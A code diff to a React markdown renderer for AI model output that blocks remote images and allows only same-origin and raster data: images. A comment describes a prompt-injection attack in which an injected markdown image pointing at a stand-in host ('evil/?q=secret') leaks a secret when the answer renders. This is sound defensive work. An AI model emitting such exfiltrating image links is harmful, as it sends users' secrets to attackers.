@@ -1,5 +1,5 @@
 import { memo, useState, type ComponentProps } from "react";
-import ReactMarkdown, { type Components, type ExtraProps } from "react-markdown";
+import ReactMarkdown, { defaultUrlTransform, type Components, type ExtraProps, type UrlTransform } from "react-markdown";
 import rehypeHighlight from "rehype-highlight";
 import remarkGfm from "remark-gfm";
 
@@ -59,19 +59,55 @@ function Link({ node: _node, children, ...props }: ComponentProps<"a"> & ExtraPr
   );
 }
 
-const components: Components = { pre: CodeBlock, a: Link };
+/** Inline images the browser may load: raster `data:` URLs (no request at all). SVG is left out on purpose. */
+const dataImage = /^data:image\/(?:png|gif|jpe?g|webp|avif|bmp);/i;
+
+/**
+ * Loading an image is a request the user never asked for: a prompt-injected `![](https://evil/?q=secret)`
+ * would send the secret the moment the answer renders (the CSP blocks it in production, but not on the Vite
+ * dev server or behind a proxy that drops headers). Only same-origin and `data:` images load.
+ */
+export function imageLoads(src: string, origin = window.location.origin): boolean {
+  if (dataImage.test(src)) return true;
+  try {
+    return new URL(src, `${origin}/`).origin === origin;
+  } catch {
+    return false;
+  }
+}
+
+/** Other images become a plain link that says what it is and shows where it points; nothing loads. */
+function Image({ node: _node, src, alt, title }: ComponentProps<"img"> & ExtraProps) {
+  const url = typeof src === "string" ? src : "";
+  if (url === "") return alt ? <span className="markdown__image-blocked">{alt}</span> : null;
+  if (imageLoads(url)) return <img src={url} alt={alt ?? ""} title={title} loading="lazy" />;
+  return (
+    <span className="markdown__image-blocked" data-testid="blocked-image">
+      <a href={url} target="_blank" rel="noopener noreferrer nofollow" title={title ?? "Remote image, not loaded"}>
+        {alt ? `Image: ${alt}` : "Image"}
+      </a>{" "}
+      <span className="markdown__image-url">({url})</span>
+    </span>
+  );
+}
+
+/** The default transform (no `javascript:` and friends), plus raster `data:` URLs for images only. */
+const urlTransform: UrlTransform = (url, key, node) =>
+  key === "src" && node.tagName === "img" && dataImage.test(url) ? url : defaultUrlTransform(url);
+
+const components: Components = { pre: CodeBlock, a: Link, img: Image };
 const remarkPlugins = [remarkGfm];
 // Only fenced blocks with a language are highlighted; guessing costs time on every streamed frame.
 const rehypePlugins = [rehypeHighlight];
 
 /**
- * Model output as markdown. Raw HTML is not rendered (no rehype-raw: it shows as text) and
- * react-markdown's default urlTransform drops unsafe URLs such as `javascript:`.
+ * Model output as markdown. Raw HTML is not rendered (no rehype-raw: it shows as text), unsafe URLs such as
+ * `javascript:` are dropped, and only same-origin or `data:` images load (others show as links).
  */
 export const Markdown = memo(function Markdown({ text }: { text: string }) {
   return (
     <div className="markdown">
-      <ReactMarkdown remarkPlugins={remarkPlugins} rehypePlugins={rehypePlugins} components={components}>
+      <ReactMarkdown remarkPlugins={remarkPlugins} rehypePlugins={rehypePlugins} components={components} urlTransform={urlTransform}>
         {text}
       </ReactMarkdown>
     </div>
